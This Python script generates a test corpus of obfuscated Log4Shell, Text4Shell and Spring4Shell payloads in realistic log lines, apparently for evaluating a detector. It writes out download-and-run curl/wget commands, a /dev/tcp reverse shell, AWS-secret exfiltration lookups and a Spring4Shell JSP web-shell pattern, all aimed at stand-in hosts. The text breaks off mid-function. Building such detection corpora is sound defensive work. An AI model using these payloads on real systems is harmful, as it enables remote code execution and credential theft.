#!/usr/bin/env python3
"""Generates the Log4Shell obfuscation corpus (stdlib only).

Three modes:

  generate.py --seed N --count N [--real-world FILE]
      Writes JSON lines to stdout, one entry per payload:
        {"id", "source": "generated"|"real-world", "payload", "line", "layers", "rule",
         "expect": null}
      `payload` is the Log4j-level string (what Log4j's StrSubstitutor sees); `line` is the log
      line as it appears in a log, after an encoding layer (URL single/partial/double, JSON
      \\u escapes, Java \\x escapes, HTML entities) and the escaping of its log layout
      (combined access log with nginx or Apache escaping, JSON application log, syslog RFC 3164
      and 5424, nginx and Apache error logs, a plain Log4j pattern layout). `layers` names what
      was applied, innermost first. `rule` is the rule code the detector must report.
      The same seed and count always give the same output.

  generate.py --extract-payloads ENTRIES
      Writes the payload of every entry that the Log4j oracle must evaluate (the Log4j rules and
      the benign decoys), one JSON string per line, in order.

  generate.py --merge ENTRIES ORACLE_OUTPUT
      Fills `expect` from the oracle's answers (one per extracted payload, same order), checks
      that each entry's rule agrees with what Log4j did (a remote-lookup entry really looked a
      remote URL up, a decoy did not, ...), resolves the "auto" rules of real-world entries, and
      writes the finished corpus to stdout. Exits 1 on any disagreement: a generator bug.

scripts/make-log4shell-corpus runs the three in a row.

What is generated: remote JNDI lookups (ldap, ldaps, rmi, dns, iiop, corba, nds, nis, http,
https) to documentation hosts, with ports, kit paths (/Basic/Command/Base64/<a curl|wget command>)
and exfiltrating lookups in the host or path; each part split at random and rebuilt from nested
lookups to a bounded depth: ${lower:…}/${upper:…} (with the Unicode characters whose Java case
mapping lands on ASCII: ı, ſ, ß, ﬆ, the Kelvin sign), case-varied prefixes, `:-` defaults after
null lookups (env, sys, ctx, main, k8s, docker, spring, bundle, unknown and random prefixes, no
prefix, bare colons), ${date:'x'}, empty lookups, the `:\\-` escaped delimiter, `$${` escapes and
stray braces. Also recon lookups on their own, Commons Text and Spring4Shell lines, and decoys that
Log4j evaluates without a remote lookup (İ, dotless ı in a prefix, ${upper::-n} being "",
unterminated lookups, local JNDI names). Constructs where Log4j 2.14.1 and 2.19 disagree (a `$${`
inside a `:-` default, cyclic substitutions) are left out: the corpus holds for both.
"""

import argparse
import base64
import json
import random
import sys
import urllib.parse

LOG4J_RULES = ("log4shell-jndi", "log4shell-jndi-exfil", "log4shell-recon", "lookup-benign")
OTHER_RULES = ("text4shell-lookup", "spring4shell-classloader")
REMOTE_PROTOCOLS = ("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https")

# Lookup prefixes the oracle (and the emulator) resolve; every other prefix resolves to null.
LIVE_PREFIXES = ("lower", "upper", "date", "jndi")
# Prefixes of real Log4j lookups that resolve to null in the oracle, so `:-` defaults apply.
NULL_PREFIXES = ("env", "sys", "ctx", "main", "k8s", "docker", "spring", "bundle", "web", "sd",
                 "map", "marker", "log4j", "jvmrunargs", "event", "java")
ENV_NAMES = ("ENV_NAME", "BARFOO", "NaN", "TEST", "K5", "k5", "X", "FOO", "NOPE", "a", "hdGpqN",
             "UNDEFINED_42", "Q1", "zz")
EXFIL_LOOKUPS = ("${env:AWS_SECRET_ACCESS_KEY}", "${env:AWS_ACCESS_KEY_ID}", "${env:USER}",
                 "${env:USERNAME}", "${env:COMPUTERNAME}", "${env:USERDOMAIN}", "${env:HOSTNAME}",
                 "${sys:user.name}", "${sys:java.version}", "${sys:os.name}", "${java:version}",
                 "${java:os}", "${hostName}", "${env:JAVA_VERSION}", "${ctx:loginId}")
RECON_LOOKUPS = ("${java:version}", "${java:os}", "${java:vm}", "${java:runtime}", "${hostName}",
                 "${env:AWS_SECRET_ACCESS_KEY}", "${env:AWS_ACCESS_KEY_ID}", "${sys:user.name}",
                 "${sys:java.version}", "${env:PATH}", "${env:USER}", "${java:locale}")

# Unicode characters whose Java case mapping lands on ASCII: the target of ${upper:…} / ${lower:…}.
UPPER_TRICKS = {"I": ["\u0131"], "S": ["\u017f"], "SS": ["\u00df"], "ST": ["\ufb06", "\ufb05"],
                "FF": ["\ufb00"], "FI": ["\ufb01"], "FL": ["\ufb02"]}
LOWER_TRICKS = {"k": ["\u212a"]}  # KELVIN SIGN lower-cases to ASCII k


class Gen:
    """Builds Log4j expressions that evaluate to a given text."""

    def __init__(self, rng):
        self.rng = rng

    # ---- small random helpers -------------------------------------------------------------

    def chance(self, p):
        return self.rng.random() < p

    def pick(self, seq):
        return self.rng.choice(seq)

    def word(self, lo=3, hi=8, alphabet="abcdefghijklmnopqrstuvwxyz"):
        return "".join(self.pick(alphabet) for _ in range(self.rng.randint(lo, hi)))

    def case_vary(self, s):
        """Random letter case (for lookup prefixes, which Log4j lower-cases)."""
        return "".join(c.upper() if self.chance(0.5) else c.lower() for c in s)

    def prefix(self, name):
        return self.case_vary(name) if self.chance(0.3) else name

    # ---- lookups that evaluate to a text ------------------------------------------------

    def null_name(self):
        """A variable name that resolves to null, for `${NAME:-default}`."""
        kind = self.rng.randint(0, 6)
        if kind == 0:
            return ":"  # ${::-x}
        if kind == 1:
            return ":" * self.rng.randint(2, 6)  # ${:::::-x}
        if kind == 2:
            return ""  # ${:-x}
        if kind == 3:
            return self.word(1, 6)  # no prefix: ${foo:-x}
        if kind == 4:
            if self.chance(0.05):
                return "\u212a8s:" + self.pick(ENV_NAMES)  # KELVIN SIGN: lower-cases to k8s
            return self.prefix(self.pick(NULL_PREFIXES)) + ":" + self.pick(ENV_NAMES)
        if kind == 5:
            # woodpecker / Fastly style: random prefix and random colon-separated segments
            segs = [self.word(1, 6, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
                    for _ in range(self.rng.randint(2, 5))]
            name = ":".join(segs)
        else:
            # unknown prefix with odd characters (Ox4Shell style)
            alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.@()[]=*"
            name = self.word(2, 8, alphabet) + ":" + self.word(2, 8, alphabet)
        # Never a prefix the oracle resolves (lower:, upper:, date:, jndi:), whatever the case.
        first = name.split(":", 1)[0].lower()
        if ":" in name and first in LIVE_PREFIXES:
            name = "x" + name
        if name.endswith(":") and name.strip(":"):
            name += "x"
        return name.replace(":-", ":_").replace(":\\-", ":_")

    def lookup_for(self, text, depth):
        """One lookup expression that evaluates to `text` (non-empty, no ':-', no braces)."""
        options = ["default"] * 4
        lower_ok = not text.startswith("-") and text == text.lower()
        upper_ok = not text.startswith("-") and text == text.upper()
        if lower_ok:
            options += ["lower"] * 3
        if upper_ok:
            options += ["upper"] * 3
        if lower_ok and any(t.lower() in text for t in UPPER_TRICKS):
            options += ["lower-upper"] * 3
        if "'" not in text and not text.startswith("-"):
            options += ["date"] * 2
        if "\\" in text:
            options = ["default"]  # a key holding ":\-" would be split by Log4j
        kind = self.pick(options)
        if kind == "default":
            inner = self.maybe_nest(text, depth)
            return "${" + self.null_name() + ":-" + inner + "}"
        if kind == "lower":
            key = "".join(self.lower_source(c) for c in text)
            if self.chance(0.2) and depth < 3:
                key = self.maybe_nest(key, depth, force=True)
            return "${" + self.prefix("lower") + ":" + key + "}"
        if kind == "upper":
            key = "".join(self.upper_source(c) for c in text)
            return "${" + self.prefix("upper") + ":" + key + "}"
        if kind == "lower-upper":
            # ${lower:${upper:ı}} -> i, ${lower:${upper:ß}} -> ss, …
            up = text.upper()
            for target, sources in UPPER_TRICKS.items():
                if target in up:
                    up = up.replace(target, self.pick(sources), 1)
                    break
            return "${" + self.prefix("lower") + ":${" + self.prefix("upper") + ":" + up + "}}"
        # date: quoted literal; unquoted when there is no ASCII letter (SimpleDateFormat
        # treats only ASCII letters as pattern letters)
        if not any(c.isascii() and c.isalpha() for c in text) and self.chance(0.5):
            return "${" + self.prefix("date") + ":" + text + "}"
        return "${" + self.prefix("date") + ":'" + text + "'}"

    def lower_source(self, c):
        if c in LOWER_TRICKS and self.chance(0.4):
            return self.pick(LOWER_TRICKS[c])
        return c.upper() if c.isalpha() and self.chance(0.5) else c

    def upper_source(self, c):
        if c in UPPER_TRICKS and self.chance(0.4):
            return self.pick(UPPER_TRICKS[c])
        return c.lower() if c.isalpha() and self.chance(0.5) else c

    def maybe_nest(self, text, depth, force=False):
        if depth < 3 and (force or self.chance(0.25)):
            return self.obf(text, depth + 1, intensity=0.6)
        return text

    def empty(self):
        """A lookup that evaluates to the empty string."""
        return self.pick([
            "${::-}", "${:-}", "${" + self.prefix("date") + ":}", "${" + self.prefix("lower") + ":}",
            "${" + self.prefix("upper") + ":}", "${" + self.prefix("env") + ":" + self.pick(ENV_NAMES) + ":-}",
            "${" + self.null_name() + ":-}",
        ])

    def obf(self, text, depth=0, intensity=0.5, styles=None):
        """An expression evaluating to `text`: chunks of it replaced by lookups."""
        out = []
        i = 0
        while i < len(text):
            n = min(len(text) - i, self.pick([1, 1, 1, 2, 2, 3, 4]))
            chunk = text[i:i + n]
            i += n
            if self.chance(intensity) and not chunk.startswith("-") and ":-" not in chunk:
                out.append(self.styled_lookup(chunk, depth, styles))
            else:
                out.append(chunk)
            if self.chance(0.04):
                out.append(self.empty())
        return "".join(out)

    def styled_lookup(self, chunk, depth, styles):
        if not styles or "\\" in chunk:
            return self.lookup_for(chunk, depth)
        style = self.pick(styles)
        if style == "lower" and chunk == chunk.lower():
            key = "".join(self.lower_source(c) for c in chunk)
            return "${" + self.prefix("lower") + ":" + key + "}"
        if style == "upper" and chunk == chunk.upper():
            key = "".join(self.upper_source(c) for c in chunk)
            return "${" + self.prefix("upper") + ":" + key + "}"
        if style == "colon":
            return "${" + (":" * self.rng.randint(1, 3)) + ":-" + chunk + "}"
        if style == "env":
            return "${" + self.prefix("env") + ":" + self.pick(ENV_NAMES) + ":-" + chunk + "}"
        if style == "date" and "'" not in chunk:
            return "${" + self.prefix("date") + ":'" + chunk + "'}"
        return self.lookup_for(chunk, depth)


# ---- payload targets ------------------------------------------------------------------

DOC_NETS = ("192.0.2.", "198.51.100.", "203.0.113.")
TLD_WORDS = ("attacker", "evil", "callback", "oast", "interactsh", "dnslog", "burpcollaborator",
             "canarytokens", "l4j", "log4shell", "c2", "exfil", "scan", "probe", "kinsing")
PATHS = ("/a", "/o", "/z", "/Exploit", "/exploit", "/ass", "/poc", "/rce", "/obj", "/sploit",
         "/callback", "/ua", "/Basic/Command/Base64/", "/TomcatBypass/Command/Base64/",
         "/Basic/ReverseShell/", "/x", "/", "")
PORTS = (None, None, None, "1389", "1099", "389", "636", "53", "12344", "5557", "8080", "443",
         "80", "1387", "3890", "9999")


def doc_ip(g):
    return g.pick(DOC_NETS) + str(g.rng.randint(1, 254))


def doc_host(g):
    kind = g.rng.randint(0, 4)
    if kind == 0:
        return doc_ip(g)
    if kind == 1:
        return g.word(4, 10) + "." + g.pick(TLD_WORDS) + ".example"
    if kind == 2:
        return g.word(20, 32, "abcdefghijklmnopqrstuvwxyz0123456789") + "." + g.pick(TLD_WORDS) + ".example"
    if kind == 3:
        return g.pick(TLD_WORDS) + "-" + g.word(3, 6) + ".example"
    return g.word(4, 8) + ".example"


def shell_command(g):
    ip = doc_ip(g)
    port = str(g.pick([80, 8080, 5874, 443, 8000]))
    host = doc_host(g)
    token = g.word(4, 10, "abcdefghijklmnopqrstuvwxyz0123456789")
    forms = [
        f"(curl -s {ip}:{port}/{token}||wget -q -O- {ip}:{port}/{token})|bash",
        f"(curl -s {ip}/lh.sh||wget -q -O- {ip}/lh.sh)|bash",
        f"wget http://{ip}/{token}.sh -O /tmp/{token}.sh; sh /tmp/{token}.sh",
        f"curl -fsSL http://{host}/{token}.sh | bash",
        f"cd /tmp; wget http://{ip}:{port}/{token}; chmod +x {token}; ./{token}",
        f"nohup curl -s https://{host}/i.sh | sh >/dev/null 2>&1 &",
        f"bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    ]
    return g.pick(forms)


def jndi_target(g, exfil):
    """(protocol, authority, path) of a remote lookup; exfil puts a lookup in host or path."""
    protocol = g.pick(REMOTE_PROTOCOLS[:4] * 3 + REMOTE_PROTOCOLS)
    host = doc_host(g)
    port = g.pick(PORTS)
    path = g.pick(PATHS)
    if path.endswith("/Base64/"):
        path += base64.b64encode(shell_command(g).encode()).decode()
    elif path.endswith("/ReverseShell/"):
        path += doc_ip(g) + "/" + str(g.rng.randint(1024, 65535))
    elif path and g.chance(0.03):
        # ":\-" is Log4j's escaped default delimiter: the key gets a literal ":-"
        path += ":\\-" + g.word(1, 5)
    in_host, in_path = [], []
    if exfil:
        n = g.pick([1, 1, 1, 2, 3])
        parts = [exfil_lookup(g) for _ in range(n)]
        if g.chance(0.7) or not path or "/Base64/" in path:
            if host[0].isdigit():
                host = g.word(4, 8) + "." + g.pick(TLD_WORDS) + ".example"
            host = ".".join(parts) + "." + host
            in_host = parts
        else:
            path = path.rstrip("/") + "/" + "/".join(parts)
            in_path = parts
    return protocol, host, port, path, in_host, in_path


def exfil_lookup(g):
    """A lookup whose value the callback would carry. It stays unresolved in the oracle, so its
    raw text ends up in the jndi key: it must hold no ':-', which would split the key there."""
    lk = g.pick(EXFIL_LOOKUPS)
    if ":" in lk and g.chance(0.25):
        pfx, name = lk[2:-1].split(":", 1)
        if g.chance(0.6):
            pfx = g.case_vary(pfx)
        else:
            pfx = "".join(g.pick(["${lower:" + c.upper() + "}", "${upper:" + c + "}",
                                  "${date:'" + c + "'}", c]) for c in pfx)
        lk = "${" + pfx + ":" + name + "}"
    return lk


def obfuscate_jndi(g, protocol, host, port, path, in_host, in_path):
    """The Log4j-level payload `${jndi:…}` with random obfuscation of each part."""
    level = g.pick(["plain", "light", "light", "medium", "medium", "heavy"])
    intensity = {"plain": 0.0, "light": 0.25, "medium": 0.55, "heavy": 0.95}[level]
    styles = None
    if g.chance(0.45):
        styles = g.rng.sample(["lower", "upper", "colon", "env", "date"], g.rng.randint(1, 2))

    def part(text, p=intensity):
        return g.obf(text, 0, p, styles) if p > 0 else text

    # which parts get obfuscated: the prefix and protocol almost always, host and path sometimes
    jndi_word = g.case_vary("jndi") if g.chance(0.25) else "jndi"
    if level == "plain":
        pieces = [jndi_word, ":", protocol, "://", host, (":" + port) if port else "", path]
        raw = "".join(pieces)
    else:
        sep_through = g.chance(0.3)  # ${env:X:-:} style separators
        raw = part(jndi_word, max(intensity, 0.5))
        raw += part(":") if sep_through else ":"
        raw += part(protocol, max(intensity, 0.4))
        raw += part("://", intensity if g.chance(0.5) else 0)
        raw += obfuscate_host(g, host, in_host, intensity if g.chance(0.5) else 0, styles)
        if port:
            raw += part(":" + port, intensity if g.chance(0.4) else 0)
        if path:
            raw += obfuscate_path(g, path, in_path, intensity if g.chance(0.4) else 0, styles)
    payload = "${" + raw + "}"
    # occasional wrappers that keep the lookup
    r = g.rng.random()
    if r < 0.04:
        payload = "${" + g.null_name() + ":-" + payload + "}"  # a default holding the lookup
    elif r < 0.06 and payload == payload.lower() and not (in_host or in_path):
        payload = "${" + g.prefix("lower") + ":$" + payload + "}"  # $${ escape, re-evaluated
    elif r < 0.09:
        payload = payload + "}"  # a stray closing brace, as in many published payloads
    return payload


def obfuscate_host(g, host, exfil_parts, intensity, styles):
    if not exfil_parts:
        return g.obf(host, 0, intensity, styles) if intensity else host
    prefix = ".".join(exfil_parts)
    rest = host[len(prefix):]
    return prefix + (g.obf(rest, 0, intensity, styles) if intensity else rest)


def obfuscate_path(g, path, exfil_parts, intensity, styles):
    if exfil_parts:
        tail = "/".join(exfil_parts)
        head = path[: len(path) - len(tail)]
        return (g.obf(head, 0, intensity, styles) if intensity else head) + tail
    if intensity and "/Base64/" in path:
        # obfuscate the kit prefix, keep most of the base64 literal
        idx = path.index("/Base64/") + len("/Base64/")
        return g.obf(path[:idx], 0, intensity, styles) + path[idx:]
    return g.obf(path, 0, intensity, styles) if intensity else path


def recon_payload(g):
    n = g.pick([1, 1, 2])
    out = []
    for _ in range(n):
        lk = g.pick(RECON_LOOKUPS)
        inner = lk[2:-1]
        if ":" in inner and g.chance(0.6):
            pfx, name = inner.split(":", 1)
            if g.chance(0.5):
                pfx = g.case_vary(pfx)
            else:
                pfx = g.obf(pfx, 0, 0.6)
            lk = "${" + pfx + ":" + name + "}"
        elif ":" not in inner and g.chance(0.5):
            lk = "${" + g.obf(inner, 0, 0.5) + "}"  # ${${lower:h}ostName}
        out.append(lk)
    sep = g.pick(["", " ", "-", ".", "/"])
    return sep.join(out)


def text4shell_payload(g):
    host = doc_host(g)
    kind = g.rng.randint(0, 3)
    if kind == 0:
        cmd = g.pick([f"touch /tmp/{g.word(3, 6)}", f"nslookup {host}", f"curl http://{host}/x",
                      f"wget -qO- http://{doc_ip(g)}/s.sh"])
        engine = g.pick(["javascript", "js", "JavaScript", "nashorn"])
        return "${" + g.prefix("script") + ":" + engine + ":java.lang.Runtime.getRuntime().exec('" + cmd + "')}"
    if kind == 1:
        scheme = g.pick(["http", "https"])
        return "${" + g.prefix("url") + ":UTF-8:" + scheme + "://" + host + "/" + g.word(1, 6) + "}"
    if kind == 2:
        return "${" + g.prefix("dns") + ":" + g.pick(["address", "canonical-name", "name"]) + "|" + host + "}"
    return "${" + g.prefix("script") + ":javascript:java.lang.Runtime.getRuntime().exec(\"ping -c 1 " + host + "\")}"


SPRING_PREFIX = "class.module.classLoader.resources.context.parent.pipeline.first."


def spring4shell_payload(g):
    """The decoded query string of a Spring4Shell attempt."""
    kind = g.rng.randint(0, 3)
    if kind == 0:
        pattern = ('%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = '
                   '%{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); int a = -1; '
                   'byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i')
        name = g.word(4, 9)
        params = [("pattern", pattern), ("suffix", ".jsp"), ("directory", "webapps/ROOT"),
                  ("prefix", name), ("fileDateFormat", "")]
        g.rng.shuffle(params)
        return "&".join(SPRING_PREFIX + k + "=" + v for k, v in params[: g.rng.randint(1, 5)])
    if kind == 1:
        return "class.module.classLoader.URLs[0]=0"
    if kind == 2:
        return "class.module.classLoader.DefaultAssertionStatus=" + g.pick(["nonsense", "true", "x"])
    return SPRING_PREFIX + "pattern=" + g.word(3, 8)


def decoy_payload(g):
    """Near misses: lookups that Log4j evaluates without any remote lookup."""
    host = doc_host(g)
    kind = g.rng.randint(0, 7)
    if kind == 0:
        return "${jn" + "${lower:\u0130}" + "di:ldap://" + host + "/a}"  # İ lower-cases to i + U+0307
    if kind == 1:
        return "${j${upper::-n}di:ldap://" + host + "/a}"  # ${upper::-n} is "" (upper of "")
    if kind == 2:
        return "${jndi:java:comp/env/jdbc/" + g.word(3, 8) + "}"  # a local JNDI name
    if kind == 3:
        return "${jndi:" + g.pick(["ldap", "rmi", "dns"]) + "}"  # no protocol separator
    if kind == 4:
        return "${jnd\u0131:ldap://" + host + "/a}"  # dotless ı is not i when lower-cased
    if kind == 5:
        return "${jndi:ldap://" + host + "/a"  # unterminated: nothing is substituted
    if kind == 6:
        return "${${::-j}ndi:" + "${lower:l}dap://" + host + "/a"  # unterminated outer lookup
    return "${" + g.case_vary("env") + ":" + g.pick(["HOME", "PATH", "LANG"]) + ":-/tmp}/" + g.word(3, 8)


# ---- encodings (what the log adds on top of the payload) ----------------------------

def pct(b, lower):
    s = "%{:02X}".format(b)
    return s.lower() if lower else s


def url_encode(text, g, chars=None, lower_hex=None):
    """Percent-encodes `text` (UTF-8). chars: the ASCII characters to encode (None: all but
    unreserved), non-ASCII and controls always."""
    if lower_hex is None:
        lower_hex = g.chance(0.3)
    out = []
    for c in text:
        raw = c.encode("utf-8")
        if len(raw) > 1 or ord(c) < 0x21 or ord(c) == 0x7f:
            out.append("".join(pct(b, lower_hex) for b in raw))
        elif chars is None:
            if c.isalnum() or c in "-._~":
                out.append(c)
            else:
                out.append(pct(raw[0], lower_hex))
        elif c in chars:
            out.append(pct(raw[0], lower_hex))
        else:
            out.append(c)
    return "".join(out)


def escape_chars(text, chars, fmt):
    return "".join(fmt(c) if c in chars else c for c in text)


def escape_in_string(text, chars, fmt):
    """As escape_chars, inside a JSON or Java string literal: a backslash of
    the payload is written escaped (`\\`), or the literal would not say what
    the payload says (`\\u007d` is a backslash and `u007d`, not `}`)."""
    return "".join("\\\\" if c == "\\" else fmt(c) if c in chars else c for c in text)


HTML_NAMED = {"$": ["&dollar;"], "{": ["&lbrace;", "&lcub;"], "}": ["&rbrace;", "&rcub;"],
              ":": ["&colon;"], "/": ["&sol;"]}


def apply_encoding(g, text, encoding):
    """Returns (encoded text, layer names)."""
    if encoding == "none":
        return text, []
    if encoding == "url":
        return url_encode(text, g, None if g.chance(0.6) else "${}:/|'\"<> "), ["url"]
    if encoding == "url-partial":
        chars = g.pick(["{}", "${}", "$", "{", "${"])
        return url_encode(text, g, chars), ["url"]
    if encoding == "url-double":
        once = url_encode(text, g, None if g.chance(0.5) else "${}:/")
        return url_encode(once, g, "%"), ["url", "url"]
    if encoding == "json-unicode":
        chars = g.pick(["$", "${", "${}", "${}:/"])
        upper = g.chance(0.5)
        return escape_in_string(text, chars, lambda c: ("\\u%04X" if upper else "\\u%04x") % ord(c)), ["json"]
    if encoding == "java-hex":
        chars = g.pick(["$", "${", "${}", "${}:/"])
        upper = g.chance(0.5)
        return escape_in_string(text, chars, lambda c: ("\\x%02X" if upper else "\\x%02x") % ord(c)), ["java"]
    if encoding == "html-dec":
        chars = g.pick(["$", "${", "${}"])
        return escape_chars(text, chars, lambda c: "&#%d;" % ord(c)), ["html"]
    if encoding == "html-hex":
        chars = g.pick(["$", "${", "${}"])
        upper = g.chance(0.5)
        return escape_chars(text, chars, lambda c: ("&#x%X;" if upper else "&#x%x;") % ord(c)), ["html"]
    if encoding == "html-named":
        chars = g.pick(["$", "${", "${}", "${}:/"])
        return escape_chars(text, chars, lambda c: g.pick(HTML_NAMED[c])), ["html"]
    raise ValueError(encoding)


ENCODINGS = ["none"] * 8 + ["url"] * 4 + ["url-partial"] * 2 + ["url-double"] * 2 + [
    "json-unicode"] * 2 + ["java-hex"] * 2 + ["html-dec", "html-hex", "html-named"]


# ---- log layouts ---------------------------------------------------------------------

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
UAS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
       "curl/7.68.0", "Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0",
       "python-requests/2.26.0", "Go-http-client/1.1")
PATHS_BENIGN = ("/", "/index.html", "/login", "/api/v1/users", "/search", "/admin", "/wp-login.php",
                "/solr/admin/cores", "/struts/utils.js", "/api/session")


def stamp(g):
    day = g.rng.randint(9, 31)
    h, m, s = g.rng.randint(0, 23), g.rng.randint(0, 59), g.rng.randint(0, 59)
    ms = g.rng.randint(0, 999)
    return day, h, m, s, ms


def nginx_escape(text):
    """nginx's access-log escaping: '"', '\\' and bytes outside 0x20-0x7e as \\xHH."""
    out = []
    for b in text.encode("utf-8"):
        if b == 0x22 or b == 0x5C or b < 0x20 or b > 0x7E:
            out.append("\\x%02X" % b)
        else:
            out.append(chr(b))
    return "".join(out)


def apache_escape(text):
    """Apache's access-log escaping: \\" and \\\\, other non-printables as \\xhh."""
    out = []
    for b in text.encode("utf-8"):
        if b == 0x22:
            out.append('\\"')
        elif b == 0x5C:
            out.append("\\\\")
        elif b < 0x20 or b > 0x7E:
            out.append("\\x%02x" % b)
        else:
            out.append(chr(b))
    return "".join(out)


def in_request_target(g, encoded, layers):
    """Text fit for a request line (no spaces, quotes or non-ASCII left raw)."""
    if any(c in encoded for c in " \"") or any(ord(c) > 0x7e or ord(c) < 0x21 for c in encoded):
        encoded = url_encode(encoded, g, " \"<>")
        layers = layers + ["url"]
    return encoded, layers


def embed(g, encoded, layers, placement_hint=None):
    """Puts the encoded payload into a log line of a random layout. Returns (line, layers)."""
    layout = placement_hint or g.pick(["access-path", "access-ua", "access-referer", "access-common",
                                       "json", "json", "syslog3164", "syslog5424", "nginx-error",
                                       "apache-error", "log4j-layout"])
    ip = doc_ip(g)
    day, h, m, s, ms = stamp(g)
    status = g.pick([200, 301, 400, 403, 404, 404, 500])
    size = g.rng.randint(0, 40000)
    method = g.pick(["GET", "GET", "POST", "HEAD"])
    clock = f"{day:02d}/Dec/2021:{h:02d}:{m:02d}:{s:02d} +0000"
    if layout.startswith("access"):
        flavor = g.pick(["nginx", "apache"])
        esc = nginx_escape if flavor == "nginx" else apache_escape
        ua, ref, path = g.pick(UAS), "-", g.pick(PATHS_BENIGN)
        in_target = layout in ("access-path", "access-common", "access-query", "access-common-query")
        if in_target:
            target, layers = in_request_target(g, encoded, layers)
            if layout.endswith("-query"):
                path = g.pick(["/", "/app/", "/index.jsp", "/login", "/api/upload"]) + "?" + target
            elif g.chance(0.5):
                path = "/" + target.lstrip("/")
            else:
                path = path + "?" + g.pick(["q", "search", "id", "x", "page", "redirect"]) + "=" + target
            field = path
        elif layout == "access-ua":
            ua = field = encoded
        else:
            ref = field = encoded
        request = esc(f"{method} {path} HTTP/1.1")
        line = f'{ip} - - [{clock}] "{request}" {status} {size}'
        if "common" not in layout:
            line += f' "{esc(ref)}" "{esc(ua)}"'
        if esc(field) != field:
            layers = layers + [flavor + "-escape"]
        kind = "access-common" if "common" in layout else ("access-path" if in_target else layout)
        return line, layers + ["log:" + kind + ":" + flavor]
    if layout == "json":
        field = g.pick(["message", "user_agent", "http.user_agent", "username", "headers.x-api-version",
                        "referer", "query"])
        ascii_only = g.chance(0.3)
        ts = f"2021-12-{day:02d}T{h:02d}:{m:02d}:{s:02d}.{ms:03d}Z"
        value = encoded
        if field == "message":
            value = g.pick(["Login failed for user ", "Request from ", "Invalid token: ", "Search: "]) + encoded
        rec = {"@timestamp": ts, "level": g.pick(["INFO", "WARN", "ERROR"]),
               "logger": "com.acme.web." + g.pick(["RequestLogger", "AuthController", "SearchService"]),
               "thread": "http-nio-8080-exec-%d" % g.rng.randint(1, 20), "client_ip": ip}
        rec[field] = value
        line = json.dumps(rec, ensure_ascii=ascii_only, separators=(",", ":") if g.chance(0.5) else (", ", ": "))
        if json.dumps(value, ensure_ascii=ascii_only)[1:-1] != value:
            layers = layers + ["json-string"]
        return line, layers + ["log:json"]
    if layout == "syslog3164":
        host = g.pick(["web01", "app-2", "edge", "api"])
        line = (f"<{g.pick([134, 131, 14, 86])}>Dec {day:2d} {h:02d}:{m:02d}:{s:02d} {host} "
                f"{g.pick(['app', 'java', 'sshd', 'tomcat'])}[{g.rng.randint(100, 65000)}]: "
                f"{g.pick(['Failed password for invalid user ', 'Invalid user ', 'login: ', 'request: '])}{encoded} from {ip}")
        return line, layers + ["log:syslog-rfc3164"]
    if layout == "syslog5424":
        host = g.pick(["web01", "app-2", "edge", "api"])
        line = (f"<{g.pick([134, 131, 14, 86])}>1 2021-12-{day:02d}T{h:02d}:{m:02d}:{s:02d}.{ms:03d}Z {host} "
                f"{g.pick(['app', 'java', 'tomcat'])} {g.rng.randint(100, 65000)} - - "
                f"{g.pick(['User-Agent: ', 'X-Api-Version: ', 'user=', 'msg='])}{encoded} src={ip}")
        return line, layers + ["log:syslog-rfc5424"]
    if layout == "nginx-error":
        target, layers = in_request_target(g, encoded, layers)
        line = (f"2021/12/{day:02d} {h:02d}:{m:02d}:{s:02d} [error] {g.rng.randint(10, 9999)}#{g.rng.randint(0, 9)}: "
                f"*{g.rng.randint(1, 99999)} open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory), "
                f"client: {ip}, server: www.example.com, request: \"{method} /?{g.pick(['q', 'x', 'id'])}={target} HTTP/1.1\", "
                f"host: \"www.example.com\"")
        return line, layers + ["log:nginx-error"]
    if layout == "apache-error":
        target, layers = in_request_target(g, encoded, layers)
        line = (f"[{g.pick(DAYS)} Dec {day:02d} {h:02d}:{m:02d}:{s:02d}.{ms:03d}123 2021] [core:error] "
                f"[pid {g.rng.randint(100, 65000)}:tid {g.rng.randint(10**14, 10**15)}] [client {ip}:{g.rng.randint(1024, 65535)}] "
                f"AH00126: Invalid URI in request {method} /{target} HTTP/1.1")
        return line, layers + ["log:apache-error"]
    # log4j pattern layout of a Java application
    line = (f"2021-12-{day:02d} {h:02d}:{m:02d}:{s:02d},{ms:03d} {g.pick(['INFO', 'WARN', 'ERROR'])} "
            f"[http-nio-8080-exec-{g.rng.randint(1, 20)}] c.a.w.{g.pick(['LoginController', 'ApiFilter'])} - "
            f"{g.pick(['Login failed for user ', 'X-Api-Version: ', 'Unknown header value '])}{encoded}")
    return line, layers + ["log:log4j-pattern"]


# ---- corpus --------------------------------------------------------------------------

def generated_entries(seed, count):
    g = Gen(random.Random(seed))
    seen = set()
    entries = []
    attempts = 0
    while len(entries) < count:
        attempts += 1
        if attempts > count * 50:
            raise SystemExit("generate.py: cannot find enough distinct payloads")
        r = g.rng.random()
        if r < 0.66:
            rule = "log4shell-jndi"
        elif r < 0.78:
            rule = "log4shell-jndi-exfil"
        elif r < 0.84:
            rule = "log4shell-recon"
        elif r < 0.89:
            rule = "text4shell-lookup"
        elif r < 0.94:
            rule = "spring4shell-classloader"
        else:
            rule = "lookup-benign"
        placement = None
        if rule in ("log4shell-jndi", "log4shell-jndi-exfil"):
            payload = obfuscate_jndi(g, *jndi_target(g, rule == "log4shell-jndi-exfil"))
        elif rule == "log4shell-recon":
            payload = recon_payload(g)
        elif rule == "text4shell-lookup":
            payload = text4shell_payload(g)
        elif rule == "spring4shell-classloader":
            payload = spring4shell_payload(g)
            placement = g.pick(["access-query", "access-query", "access-common-query", "nginx-error"])
        else:
